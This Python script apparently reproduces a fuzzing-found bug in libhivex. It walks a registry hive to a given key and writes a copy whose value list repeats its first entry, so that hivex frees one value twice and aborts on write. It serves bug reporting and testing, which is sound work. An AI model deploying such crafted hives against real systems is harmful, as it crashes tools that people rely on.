#!/usr/bin/env python3
"""Write a copy of a hive that makes libhivex abort when the tool writes.

    crash-hive.py IN OUT 'ControlSet001\\Control\\Class\\{...}\\0001'

The key's value list gets its first entry twice (a list [a, b, ...]
becomes [a, a, ...]).  Every read of the hive still works (the value is
just listed twice), but when a value of that key is set, hivex frees
the old values one by one and frees value a twice: the assertion in
its mark_block_unused() aborts the process (found by fuzzing; reported
in the project's issue 11).  Nothing else changes: the base block and
its checksum are as they were, so the hive is clean."""
import struct
import sys

src, dst, path = sys.argv[1], sys.argv[2], sys.argv[3]
data = bytearray(open(src, "rb").read())
BASE = 0x1000


def cell(off):
    """Absolute offset of the data of the cell at hive offset OFF."""
    return BASE + off + 4


def subkeys(nk):
    n = struct.unpack_from("<I", data, nk + 20)[0]
    lst = struct.unpack_from("<I", data, nk + 28)[0]
    if n == 0:
        return []
    return list(walk_list(cell(lst)))


def walk_list(lp):
    sig = bytes(data[lp:lp + 2])
    count = struct.unpack_from("<H", data, lp + 2)[0]
    if sig in (b"lf", b"lh"):
        for i in range(count):
            yield struct.unpack_from("<I", data, lp + 4 + 8 * i)[0]
    elif sig == b"li":
        for i in range(count):
            yield struct.unpack_from("<I", data, lp + 4 + 4 * i)[0]
    elif sig == b"ri":
        for i in range(count):
            yield from walk_list(cell(struct.unpack_from("<I", data, lp + 4 + 4 * i)[0]))
    else:
        sys.exit("unknown subkey list %r" % sig)


def name(nk):
    n = struct.unpack_from("<H", data, nk + 72)[0]
    flags = struct.unpack_from("<H", data, nk + 2)[0]
    raw = bytes(data[nk + 76:nk + 76 + n])
    return raw.decode("latin-1" if flags & 0x20 else "utf-16-le")


nk = cell(struct.unpack_from("<I", data, 0x24)[0])
for comp in path.split("\\"):
    for off in subkeys(nk):
        if name(cell(off)).lower() == comp.lower():
            nk = cell(off)
            break
    else:
        sys.exit("%s: no key %s" % (src, comp))

nvalues = struct.unpack_from("<I", data, nk + 36)[0]
if nvalues < 2:
    sys.exit("%s: the key has %d values, needs 2" % (path, nvalues))
vl = cell(struct.unpack_from("<I", data, nk + 40)[0])
first = struct.unpack_from("<I", data, vl)[0]
struct.pack_into("<I", data, vl + 4, first)
open(dst, "wb").write(data)
